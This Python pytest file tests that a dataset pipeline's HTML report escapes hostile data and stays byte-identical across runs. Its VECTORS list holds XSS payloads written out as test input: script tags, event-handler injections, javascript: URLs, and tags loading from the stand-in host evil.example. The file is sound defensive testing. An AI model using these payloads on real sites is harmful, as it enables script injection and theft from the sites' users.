"""The report: nothing in the data can act on the page, and the same data gives the same page."""

import base64
import hashlib
import json
import os
import re
import subprocess
import sys
from collections import Counter, defaultdict
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path

import pyarrow as pa
import pytest
from markupsafe import Markup

from stages.page.bins import EDGES, position
from stages.page.content import remarks
from stages.page.diff import CHANGES, pieces
from stages.page.signs import cut, plain, visible
from stages.page.svg import bar, histogram
from stages.records.schema import (
    DECISIONS,
    EDITS,
    FACTS,
    INDEX,
    LEFT_OUT,
    MIXES,
    NEIGHBOURS,
    OVERLAPS,
    PLACES,
    RECORDS,
    SPLITS,
)
from stages.release.index import PATH as INDEX_PATH
from stages.storage.buckets import bucket_of, part
from stages.storage.parquet import TableWriter, write_table

REPOSITORY = Path(__file__).parent.parent
BUCKETS = 2
EVENTS = ("onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart")
VECTORS = (
    "<script>alert({n})</script>",
    "<ScRiPt src=//evil.example/{n}.js></sCrIpT>",
    "<img src=x {event}=alert({n})>",
    "<svg {event}=alert({n})><animate {event}=alert({n}) attributeName=x dur=1s>",
    "<svg><script>alert({n})</script></svg>",
    "</style><script>alert({n})</script>",
    "</title><script>alert({n})</script>",
    "</dd></dl></article><iframe src='javascript:alert({n})'></iframe>",
    '"><img src="https://evil.example/{n}.png" {event}="alert({n})">',
    "' {event}='alert({n})' x='",
    '" {event}="alert({n})" x="',
    "<a href='javascript:alert({n})'>点我</a>",
    "<a href='data:text/html,<script>alert({n})</script>'>看这里</a>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<base href=//evil.example/{n}/>",
    "<form action=//evil.example/{n}><input autofocus {event}=alert({n})>",
    "<object data=//evil.example/{n}></object><embed src=//evil.example/{n}>",
    "<details open {event}=alert({n})>{n}</details>",
    "<!--{n}--><p style='background:url(//evil.example/{n})'>",
    "{{{{ {n} * 7 }}}}{{% for x in range({n}) %}}{{% endfor %}}",
    "&lt;script&gt;alert({n})&lt;/script&gt;&#60;b&#62;",
    "<b {event}=alert({n})\n>。中文{n}</b>",
    "\u202e<script>alert({n})</script>\u202c\u0007",
)
ALLOWED = {
    "html": {"lang"}, "head": set(), "meta": {"charset", "http-equiv", "content", "name"}, "title": set(),
    "style": set(), "body": set(), "div": {"class", "id", "tabindex", "role", "aria-label"}, "nav": {"aria-label"},
    "main": {"id"}, "a": {"href", "class"}, "section": {"id"}, "p": {"class", "lang", "dir"}, "ul": set(),
    "ol": {"class"}, "li": set(), "h1": set(), "h2": set(), "h3": set(), "h4": set(), "small": set(), "em": set(),
    "br": set(), "code": set(), "span": {"class", "lang", "dir"}, "del": {"class"}, "ins": set(), "footer": set(),
    "table": set(), "caption": set(), "thead": set(), "tbody": set(), "tfoot": set(), "tr": set(),
    "th": {"scope", "class"}, "td": {"class"}, "dl": {"class"}, "dt": set(), "dd": {"class", "lang", "dir"},
    "details": {"class", "id"}, "summary": set(), "article": {"class"}, "header": set(),
    "svg": {"class", "role", "aria-label", "aria-hidden", "width", "height"},
    "rect": {"class", "x", "y", "width", "height"}, "line": {"class", "x1", "x2", "y1", "y2"},
    "text": {"class", "x", "y", "dx"},
}  # fmt: skip


def payload(n: int) -> str:
    return VECTORS[n % len(VECTORS)].format(n=n, event=EVENTS[n % len(EVENTS)])


class Page(HTMLParser):
    """Elements, attributes and text as a browser's parser would see them."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.comments: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.comments.append(data)


def write(folder: Path, schema: pa.Schema, rows: list[dict], key: str = "row_id") -> None:
    parts = defaultdict(list)
    for row in sorted(rows, key=lambda row: row[key]):
        parts[bucket_of(row[key], BUCKETS)].append(row)
    for bucket in range(BUCKETS):
        write_table(part(folder, bucket), pa.Table.from_pylist(parts[bucket], schema), schema)


def decision(row_id: str, **why) -> dict:
    nothing = dict.fromkeys(DECISIONS.names)
    return {**nothing, "row_id": row_id, "verdict": "drop" if why else "keep", **why}


def build(root: Path, rows: int = 400) -> None:
    """Write what the stages before the report would write, of rows whose every text is a payload."""
    texts = (payload(n) for n in range(10**6))
    evil = 'so<b onclick="x">urce'
    ids = [f"{evil if n % 9 == 0 else 'src'}:{n}{payload(n) if n % 7 == 0 else ''}" for n in range(rows)]
    records, facts, places, index = [], [], [], []
    for n, row_id in enumerate(ids):
        turn = dict.fromkeys(("reasoning", "tool_calls", "tool_call_id", "train"))
        calls = [{"id": None, "name": next(texts), "arguments": next(texts)}] if n % 50 == 0 else None
        messages = [
            {"role": "user", "content": next(texts), **turn},
            {"role": "assistant", "content": next(texts), **turn, "tool_calls": calls},
        ]
        source = row_id.split(":", 1)[0]
        record = dict.fromkeys(RECORDS.names)
        record.update(row_id=row_id, content_hash="0", source=source, license="<i>CC</i>", kind="sft", origin="human",
                      parents=[], messages=messages, prompt_turns=1, metadata="{}", context=next(texts))  # fmt: skip
        records.append(record)
        language = ("zh", "en", "und", '"><script>')[n % 4]
        facts.append({**dict.fromkeys(FACTS.names), "row_id": row_id, "source": source, "kind": "sft", "turns": 2,
                      "language": language, "instruction_language": language, "response_language": language,
                      "prompt_length": 30.0, "response_length": float(n), "total_length": 99.0, "est_tokens": 5,
                      "calls_tool": False})  # fmt: skip
        places.append({"row_id": row_id, "source": source, "file": f"data/raw/<u>{n}.json", "line": n})
    tables = {"filter": [], "deduplicate": [], "decontaminate": [], "split": [], "mix": []}
    outs = {}
    for n, row_id in enumerate(ids):
        last = ids[rows - 1 - n % 20]
        why = (
            ("filter", {"reason": "short_response", "value": float(n), "limit": 90.0, "detail": payload(n)}),
            ("deduplicate", {"reason": "near_duplicate", "value": 0.9, "limit": 0.8, "other_row_id": last}),
            ("decontaminate", {"reason": payload(3), "value": 0.7, "limit": 0.5, "other_row_id": f"b:{payload(n)}"}),
            ("split", {"reason": "near_train", "limit": 0.7, "other_row_id": last, "detail": "test"}),
        )[n // 90 : n // 90 + 1]
        for gate, decisions in tables.items():
            if why and why[0][0] == gate:
                decisions.append(decision(row_id, **why[0][1]))
                outs[row_id] = (gate, why[0][1]["reason"])
                break
            decisions.append(decision(row_id))
        stage, reason = outs.get(row_id, (None, None))
        index.append({"row_id": row_id, "source": row_id.split(":", 1)[0], "license": "<i>CC</i>", "content_hash": "0",
                      "status": "out" if stage else "in", "stage": stage, "reason": reason,
                      "split": None if stage else "train", "repeats": 0 if stage else 1})  # fmt: skip
    data = root / "data"
    write(data / "clean/records", RECORDS, records)
    write(data / "annotate", FACTS, facts)
    write(data / "normalize/places", PLACES, places)
    for gate in ("filter", "deduplicate", "decontaminate"):
        write(data / gate, DECISIONS, tables[gate])
    write(data / "split", SPLITS, [{**row, "split": "train"} for row in tables["split"]])
    write(data / "mix", MIXES, [{**row, "repeats": 1} for row in tables["mix"]])
    near = [{"row_id": row_id, "other_row_id": ids[-2], "relation": "near", "similarity": 0.75} for row_id in ids[-1:]]
    write(data / "neighbours", NEIGHBOURS, near)
    overlap = {"benchmark": "<q>", "item": payload(0), "measure": "8-gram", "overlap": 0.4}
    write(data / "overlaps", OVERLAPS, [{"row_id": row_id, **overlap} for row_id in ids[-3:-2]])
    edits = [{"row_id": row_id, "field": f"messages[{payload(n)}]", "rule": ("whitespace", "<s>rule</s>")[n % 2],
              "before": f"{payload(n)}  \u200b{payload(n + 1)} 之前", "after": payload(n + 2)}
             for n, row_id in enumerate(ids[:60])]  # fmt: skip
    write(data / "clean/edits", EDITS, edits)
    units = [{"unit_id": f"src:!{n:032x}", "source": "src", "outcome": ("quarantined", "skipped")[n % 2],
              "reason": "invalid_json", "detail": payload(n), "file": payload(n), "line": n,
              "raw": json.dumps({"a": payload(n), "long": "长" * 400 * (n % 2)}, ensure_ascii=False)}
             for n in range(40 if rows else 0)]  # fmt: skip
    write(data / "normalize/left_out", LEFT_OUT, units, key="unit_id")
    index += [{**dict.fromkeys(INDEX.names), "row_id": unit["unit_id"], "source": "src", "status": "out",
               "stage": "normalize", "reason": "invalid_json", "repeats": 0} for unit in units]  # fmt: skip
    with TableWriter(root / INDEX_PATH, INDEX, one_group=True) as writer:
        for bucket in range(BUCKETS):
            mine = sorted((row for row in index if bucket_of(row["row_id"], BUCKETS) == bucket),
                          key=lambda row: row["row_id"])  # fmt: skip
            writer.write(pa.Table.from_pylist(mine, INDEX))
    plots = root / "metrics/plots/normalize"
    plots.mkdir(parents=True)
    lines = [f"src,used,,{rows}", f"src,quarantined,invalid_json,{len(units) // 2}",
             f"src,skipped,invalid_json,{len(units) // 2}"]  # fmt: skip
    (plots / "units.csv").write_text("\n".join(["source,outcome,reason,units", *lines, ""]), encoding="utf-8")
    (root / "metrics/overlaps.json").write_text(json.dumps({"items": 3, "overlapping": {"<q>": 1}}), encoding="utf-8")
    (root / "metrics/annotate.json").write_text(json.dumps({"audit": {"agreement": 0.9, "rows": 9}}), encoding="utf-8")
    settings = {
        "buckets": BUCKETS, "report": {"examples": 3}, "export": {"name": "</title><script>名字</script>"},
        "sources": {"src": {"adapter": "<a>", "license": "other", "license_name": payload(1)}},
    }  # fmt: skip
    (root / "params.yaml").write_text(json.dumps(settings, ensure_ascii=False), encoding="utf-8")
    outs = ["data/report", "metrics/report.json", "metrics/plots/report/lengths.csv", "data/receipts/report.json",
            "metrics/plots/report/languages.csv"]  # fmt: skip
    stage = {"cmd": "python -m stages.report", "deps": ["data/index.parquet"], "outs": outs}
    (root / "dvc.yaml").write_text(json.dumps({"stages": {"report": stage}}), encoding="utf-8")


def run(root: Path, *arguments: str, seed: int = 0, workers: int = 1) -> bytes:
    environment = {**os.environ, "PYTHONPATH": str(REPOSITORY), "PYTHONHASHSEED": str(seed),
                   "WINNOW_WORKERS": str(workers)}  # fmt: skip
    command = [sys.executable, "-W", "error", "-m", "stages.report", *arguments]
    subprocess.run(command, cwd=root, env=environment, check=True)
    return (root / "data/report/index.html").read_bytes()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    build(root)
    return root


@pytest.fixture(scope="module")
def page(hostile) -> str:
    return run(hostile, "--examples", "100").decode()


def test_hostile_rows_put_no_element_or_attribute_on_the_page(page):
    for tag, attributes in Page(page).elements:
        assert tag in ALLOWED or (tag == "title" and not attributes), tag
        assert attributes.keys() <= ALLOWED[tag], (tag, attributes)
        for name, value in attributes.items():
            if name == "href":
                assert re.fullmatch(r"#[a-z0-9-]+", value)
            if name in ("id", "class", "lang"):
                assert re.fullmatch(r"[a-zA-Z0-9 -]+", value)
    assert Page(page).comments == []


def test_a_thousand_payloads_are_shown_as_text(page):
    text = "".join(Page(page).text)
    shown = {n for n in range(1, 1300) if plain(payload(n)) in text}
    assert len(shown) >= 1000, len(shown)


def test_nothing_is_loaded_and_the_policy_allows_only_the_one_style(page):
    elements = Page(page).elements
    assert not {"script", "img", "link", "iframe", "object", "embed", "base", "form"} & {tag for tag, _ in elements}
    styles = re.findall(r"<style>(.*?)</style>", page, re.DOTALL)
    assert len(styles) == 1
    assert "url(" not in styles[0]
    assert "@import" not in styles[0]
    policies = [a["content"] for tag, a in elements if a.get("http-equiv") == "Content-Security-Policy"]
    digest = base64.b64encode(hashlib.sha256(styles[0].encode()).digest()).decode()
    assert policies == [f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"]
    assert page.index("Content-Security-Policy") < page.index("<title>")  # before anything that comes from data


def test_chinese_stands_as_itself_and_is_named_as_chinese(page):
    assert "&#" not in page.replace("&#34;", "").replace("&#39;", "")
    assert "点我" in page
    languages = Counter(a["lang"] for tag, a in Page(page).elements if a.get("lang"))
    assert languages.keys() == {"en", "zh"}
    assert languages["zh"] > 100


def test_headings_tables_and_links_lead_somewhere(page):
    elements = Page(page).elements
    ids = Counter(a["id"] for _, a in elements if "id" in a)
    assert set(ids.values()) == {1}
    assert {a["href"][1:] for _, a in elements if "href" in a} <= ids.keys()
    levels = [int(tag[1]) for tag, _ in elements if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(later - earlier <= 1 for earlier, later in pairwise(levels))
    assert all(a.get("scope") in ("col", "row") for tag, a in elements if tag == "th")


def test_same_data_same_bytes_for_any_hash_seed_and_worker_count(hostile):
    first = run(hostile, seed=1, workers=1)
    plots = [(hostile / f"metrics/plots/report/{name}.csv").read_bytes() for name in ("lengths", "languages")]
    assert run(hostile, seed=2, workers=2) == first
    assert [(hostile / f"metrics/plots/report/{n}.csv").read_bytes() for n in ("lengths", "languages")] == plots


def test_no_examples_and_an_otherwise_empty_history_make_a_page(hostile, tmp_path):
    assert b"winnow why" in run(hostile, "--examples", "0")
    build(tmp_path, rows=0)
    assert b"No row repeats another." in run(tmp_path)


def test_a_bar_is_cut_by_its_parts_and_escapes_its_label():
    drawn = bar([("in", 1), ("out", 0), ("unit", 1)], 4, '<"&')
    assert isinstance(drawn, Markup)
    assert drawn.count("<rect") == 2
    assert 'x="25.0%" width="25.0%"' in drawn
    assert 'aria-label="&lt;&#34;&amp;"' in drawn
    assert bar([("in", 0)], 0).count("<rect") == 0


def test_a_histogram_stacks_its_layers_to_the_top_and_escapes_names():
    drawn = histogram("<t>", [("in", [3, 0]), ("out", [1, 2])], ["<0>", "1"], [(0.5, "<5>")], [(0.9, "<m>")], 140)
    root = Page(drawn)
    boxes = [a for tag, a in root.elements if tag == "rect"]
    assert [float(box["height"]) for box in boxes] == [75.0, 25.0, 50.0]
    assert [float(box["y"]) for box in boxes] == [43.0, 18.0, 68.0]
    assert {tag for tag, _ in root.elements} == {"svg", "rect", "title", "line", "text"}
    assert "note end" in drawn
    assert histogram("none", [("in", [])], [], []).count("<rect") == 0


def test_positions_grow_with_the_length():
    places = [position(length) for length in (0, 0.5, 1, 1.2, 7, 10, 19, 20, 99_999, 100_000, 10**9)]
    assert places == sorted(places)
    assert all(0 <= place < 1 for place in places)
    assert [position(edge) * len(EDGES) for edge in EDGES] == pytest.approx(range(len(EDGES)))


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("", "a"), ("a", ""), ("同样的。。", "同样的。"), ("a  \n\n\n\nb\n", "a\n\nb\n"), ("x\r\ny", "x\ny"),
        ("one two three", "one 2 three"), ("ter\u200drariums", "terrariums"), ("café", "cafe\u0301"),
    ],
)  # fmt: skip
def test_pieces_give_back_both_texts(before, after):
    found = pieces(before, after)
    assert "".join(text for kind, text in found if kind != "ins") == before
    assert "".join(text for kind, text in found if kind != "del") == after


def test_pieces_of_long_texts_are_short_and_quick():
    lines = [f"line {n} of a text with   many spaces " * 3 for n in range(5_000)]
    found = pieces("\n".join(lines), "\n".join(line.strip() for line in lines[1:]))
    assert sum(len(text) for _, text in found) < 2_000
    found = pieces("  a" * 50_000, " a" * 50_000)
    assert sum(len(text) for _, text in found) < 2_000
    kinds = [kind for kind, _ in pieces("a b\n" * 250, "a c\n" * 250)]
    assert kinds.count("ins") == CHANGES
    assert kinds[-1] == "more"


def test_signs_show_what_hides_and_defuse_what_acts():
    assert visible("a\U000e0041\u3000\n") == "a⟨tag A⟩□↵\n"
    assert plain("\u202eabc\x1b[0m\ttab\n") == "⟨U+202E⟩abc⟨U+001B⟩[0m\ttab\n"
    assert plain("👩‍🚀 می\u200cخواهم é 中文") == "👩‍🚀 می\u200cخواهم é 中文"
    assert cut("👩‍🚀👩‍🚀", 4) == "👩‍🚀…"


def test_remarks_name_licences_lost_sources_and_empty_splits():
    source = {"name": "a", "rows": 100, "released": 60}
    found = remarks(
        {
            "left": [("quarantined", 2)], "licenses": [("CC-BY-NC-4.0", 60, ["a"]), ("MIT", 40, ["b"])],
            "released": 100, "sources": [source, {"name": "b", "rows": 0, "released": 0}],
            "splits": [("train", 100), ("test", 0)], "benchmark_items": 0, "audit": {"rows": 10, "agreement": 0.5},
        }
    )  # fmt: skip
    assert [anchor for _, anchor in found] == [
        "left-out", "licences", "licences", "sources", "sources", "headline", "left-out", "languages",
    ]  # fmt: skip
    assert "60 released rows (60.0%) stand under CC-BY-NC-4.0" in found[1][0]
